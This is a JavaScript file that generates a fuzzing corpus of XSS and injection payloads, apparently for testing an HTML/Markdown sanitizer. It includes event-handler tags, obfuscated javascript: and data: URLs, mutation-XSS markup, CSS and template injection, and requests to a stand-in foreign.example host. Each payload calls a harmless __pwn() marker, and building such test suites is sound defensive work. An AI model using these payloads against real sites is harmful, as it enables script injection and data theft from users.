// Strings that try to become script, markup, style or a foreign address.  Each of them calls __pwn() when it succeeds; the list is made of
// families, so that every trick is tried in every place where it could work.
const CALL = '__pwn()';
const out = new Set();
const add = (...list) => list.forEach((s) => out.add(s));

// --- elements that run by themselves, and every handler that needs nobody ---
const elements = {
	img: ['src=x onerror', 'src onerror', 'srcset=x onerror'],
	svg: ['onload', 'onfocusin', 'onbegin'],
	body: ['onload', 'onpageshow', 'onhashchange'],
	video: ['src=x onerror', 'onloadstart src=x'],
	audio: ['src=x onerror', 'oncanplay src=data:audio/wav;base64,UklGRg'],
	iframe: ['onload', 'srcdoc=x onload'],
	input: ['autofocus onfocus', 'onblur autofocus'],
	select: ['autofocus onfocus'],
	textarea: ['autofocus onfocus'],
	details: ['open ontoggle'],
	marquee: ['onstart', 'loop=1 width=0 onfinish'],
	object: ['data=x onerror'],
	embed: ['src=x onload'],
	link: ['rel=stylesheet href=x onerror'],
	style: ['onload', 'onerror'],
	'custom-x': ['tabindex=1 autofocus onfocus', 'style=animation-name:x onanimationstart'],
	dialog: ['open popover onbeforetoggle'],
	form: ['onformdata', 'onreset'],
	button: ['popovertarget=x onclick'],
	a: ['href=# onclick', 'tabindex=0 onpointerover'],
};
for (const [name, handlers] of Object.entries(elements))
	for (const h of handlers) {
		add(`<${name} ${h}=${CALL}>`);
		add(`<${name.toUpperCase()}/${h.replaceAll(' ', '/')}="${CALL}"/>`);
		add(`"><${name} ${h}='${CALL}'></${name}>`);
	}

// --- script in all spellings ---
for (const s of [
	'<script>{}</script>', '<SCRIPT>{}</SCRIPT>', '<script\t>{}</script\n>', '<script/x>{}</script>', '<script src=data:,{}></script>', '<script type=module>{}</script>',
	'<scr<script>ipt>{}</scr</script>ipt>', '</script><script>{}</script>', '<!--><script>{}</script>-->', '<![CDATA[<script>{}</script>]]>',
	'<svg><script>{}</script></svg>', '<svg><script href=data:,{} /></svg>', '<math><script>{}</script></math>', '<template><script>{}</script></template>',
	'<noscript><script>{}</script></noscript>', '</title><script>{}</script>', '</textarea><script>{}</script>', '</style><script>{}</script>',
	'<script\u0000>{}</script>', '<\u0000script>{}</script>', '\ufeff<script>{}</script>', '\uff1cscript\uff1e{}\uff1c/script\uff1e', '<script>\u2028{}\u2029</script>',
	'+ADw-script+AD4-{}+ADw-/script+AD4-', '%3Cscript%3E{}%3C/script%3E', '&lt;script&gt;{}&lt;/script&gt;', '&#60;script&#62;{}&#60;/script&#62;',
	'&#x3c;script&#x3e;{}&#x3c;/script&#x3e;', '\\u003cscript\\u003e{}\\u003c/script\\u003e', '\\x3cscript\\x3e{}\\x3c/script\\x3e',
])
	add(s.replaceAll('{}', CALL));

// --- addresses ---
export const schemes = [
	`javascript:${CALL}`, `JaVaScRiPt:${CALL}`, ` javascript:${CALL}`, `\u0001javascript:${CALL}`, `java\tscript:${CALL}`, `java\nscript:${CALL}`,
	`java\rscript:${CALL}`, `javascript\t:${CALL}`, `javascript\u00a0:${CALL}`, `javascript&colon;${CALL}`, `&#106;avascript:${CALL}`, `&#x6A;avascript:${CALL}`,
	`java&Tab;script:${CALL}`, `java&NewLine;script:${CALL}`, `javascript://x%0a${CALL}`, `javascript://x/?%0d${CALL}`, `javascript:/*--></title>*/${CALL}`,
	`javascript:"<svg/onload=${CALL}>"`, `vbscript:${CALL}`, `livescript:${CALL}`, `data:text/html,<script>${CALL}</script>`, `data:text/html;base64,PHNjcmlwdD5fX3B3bigpPC9zY3JpcHQ+`,
	`DATA:text/html,<svg onload=${CALL}>`, `data:image/svg+xml,<svg onload=${CALL} xmlns="http://www.w3.org/2000/svg"/>`, `data:,${CALL}`,
	`blob:http://127.0.0.1/${CALL}`, `filesystem:http://127.0.0.1/temporary/${CALL}`, `view-source:javascript:${CALL}`, `feed:javascript:${CALL}`, `jar:javascript:${CALL}!/`,
	`file:///etc/passwd#${CALL}`, `about:blank#${CALL}`, `//foreign.example/${CALL}`, `\\\\foreign.example\\${CALL}`, `/\\foreign.example/${CALL}`,
	`https:javascript:${CALL}`, `http://javascript:${CALL}@x/`, `https://x.example/"onmouseover="${CALL}`, `https://x.example/'onmouseover='${CALL}`, `mailto:x@y?body=<script>${CALL}</script>`,
	`tel:${CALL}`, `intent://x#Intent;S.x=${CALL};end`, `ws://foreign.example/${CALL}`, `\u202ejavascript:${CALL}`, `\u200bjavascript:${CALL}`,
];
for (const s of schemes) {
	const one = s.replaceAll(/[\n\r]/g, ' ');
	add(s, `[press](${one})`, `<${one}>`, `![see](${one} "t")`, `[ref][x]\n\n[x]: ${one}`);
}

// --- out of an attribute, a name, a comment, a string ---
for (const end of ['"', "'", '`', '">', "'>", '`>', '-->', '--!>', '*/', ']]>', '</a>', '</pre>', '</code>', '?>', '%>', '\\"', "\\'", '\u0000"', ')"'])
	add(`${end} onmouseover=${CALL} x=`, `${end}<img src=x onerror=${CALL}>`, `${end};${CALL};//`);

// --- style ---
add(
	`<div style="background:url(javascript:${CALL})">`, `<p style="width:expression(${CALL})">`, `<style>@import "https://foreign.example/${CALL}";</style>`,
	`<style>*{background:url(https://foreign.example/${CALL})}</style>`, `<link rel=stylesheet href=https://foreign.example/${CALL}>`, `<div style=-moz-binding:url(x#${CALL})>`,
	`<x style="position:fixed;inset:0;z-index:99999" onclick=${CALL}>all of the page</x>`, `</style><svg onload=${CALL}>`,
	`@import url(https://foreign.example/${CALL});`, `a{behavior:url(${CALL})}`,
);

// --- markup that a second reading turns into another tree ---
add(
	`<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`, `<table><td><svg><style><a title="</style><img src onerror=${CALL}>">`,
	`<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></iframe></foreignObject></svg>`, `<select><template><script>${CALL}</script></template></select>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${CALL}'/></svg>#x"/></svg>`,
	`<svg><animate onbegin=${CALL} attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:${CALL}><a>x</a></svg>`,
	`<base href=https://foreign.example/><a href=x>${CALL}</a>`, `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`, `<meta http-equiv=refresh content="0;url=https://foreign.example/${CALL}">`,
	`<frameset onload=${CALL}>`, `<isindex action=javascript:${CALL} type=image>`, `<form action=javascript:${CALL}><input type=submit></form>`,
	`<button formaction=javascript:${CALL}>x</button>`, `<input type=image src=x onerror=${CALL}>`, `<object data="javascript:${CALL}"></object>`, `<embed src="javascript:${CALL}">`,
	`<iframe src="javascript:${CALL}"></iframe>`, `<portal src=javascript:${CALL}>`, `<img src=https://foreign.example/pixel?${CALL}>`, `<img lowsrc=javascript:${CALL}>`,
	`<ping ping=https://foreign.example/${CALL}>`, `<a href=/ ping=https://foreign.example/${CALL}>x</a>`, `<applet code=${CALL}>`, `<bgsound src=javascript:${CALL}>`, `<keygen autofocus onfocus=${CALL}>`,
	`<slot onslotchange=${CALL}>`, `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`, `<eddy-chat onclick=${CALL} url=https://foreign.example/></eddy-chat>`,
);

// --- names that shadow what scripts rely on ---
add(
	...['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', 'then', 'length', 'innerHTML', 'outerHTML', 'srcdoc', 'textContent', 'cookie', 'location', 'undefined', 'null', 'NaN', '[object Object]', '0', '-1', 'true'],
	`<form id=document><input name=cookie value=${CALL}></form>`, `<a id=self><a id=self name=x href=javascript:${CALL}>`, `<img name=getElementById>`, `<form name=crypto>`,
	`{"__proto__":{"onclick":"${CALL}"}}`, `__proto__[srcdoc]=<script>${CALL}</script>`,
);

// --- what template engines and format strings would run ---
add(
	`{{constructor.constructor('${CALL}')()}}`, `{{${CALL}}}`, `\${${CALL}}`, `#{${CALL}}`, `<%= ${CALL} %>`, `<?= ${CALL} ?>`, `[[\${${CALL}}]]`, `{%${CALL}%}`, `@(${CALL})`, `*{${CALL}}`,
	`%s%s%n${CALL}`, `$&$1$\`$'${CALL}`, `';${CALL};'`, `");${CALL};("`, `\`-${CALL}-\``, `\\');${CALL}//`, `\u2028${CALL}\u2029`, `0;url=javascript:${CALL}`,
);

// --- Markdown around all that ---
add(
	`\`\`\`"><img src=x onerror=${CALL}>\ncode\n\`\`\``, `\`\`\`js" onload="${CALL}\ncode\n\`\`\``, `~~~<script>${CALL}</script>\n</code></pre><script>${CALL}</script>\n~~~`,
	`\`</code><img src=x onerror=${CALL}>\``, `| <img src=x onerror=${CALL}> | b |\n|---|---|\n| [x](javascript:${CALL}) | <svg onload=${CALL}> |`,
	`> <img src=x onerror=${CALL}>`, `# <svg onload=${CALL}>`, `- <iframe onload=${CALL}>`, `1. [x](javascript:${CALL} "\\" onclick=${CALL}")`, `**<b onclick=${CALL}>x**`,
	`[<img src=x onerror=${CALL}>](https://x.example)`, `[x](https://x.example "<img src=x onerror=${CALL}>")`, `[x](<javascript:${CALL}>)`, `[x](javascript:alert\\(1\\);${CALL})`,
	`<https://x.example/<script>${CALL}</script>>`, `[a]\n\n[a]: <javascript:${CALL}> 'x'`, `&#91;x](javascript:${CALL})`, `\\[x](javascript:${CALL})`, `[x](\u0000javascript:${CALL})`,
	`<div markdown="1" onclick=${CALL}>**x**</div>`, `<!-- ${CALL} --> <!--><img src=x onerror=${CALL}>-->`, `<?xml version="1.0"?><x onload=${CALL}/>`, `<!DOCTYPE html><body onload=${CALL}>`,
);

// --- letters that mislead ---
add(
	`\u202e${CALL}\u202c`, `\u2066<img src=x onerror=${CALL}>\u2069`, `a\u0300\u0301\u0302\u0303`.repeat(30) + CALL, `\ud83d\udc69\u200d\ud83d\udcbb${CALL}`, `${'<b>'.repeat(200)}${CALL}`,
	`${'['.repeat(300)}x${']'.repeat(300)}(javascript:${CALL})`, `${'>'.repeat(100)} ${CALL}`, `\u00ad<\u00adscript>${CALL}`, `\u{e0001}\u{e0041}${CALL}`, `\u0008\u001b[2J${CALL}`,
);

export const corpus = [...out];
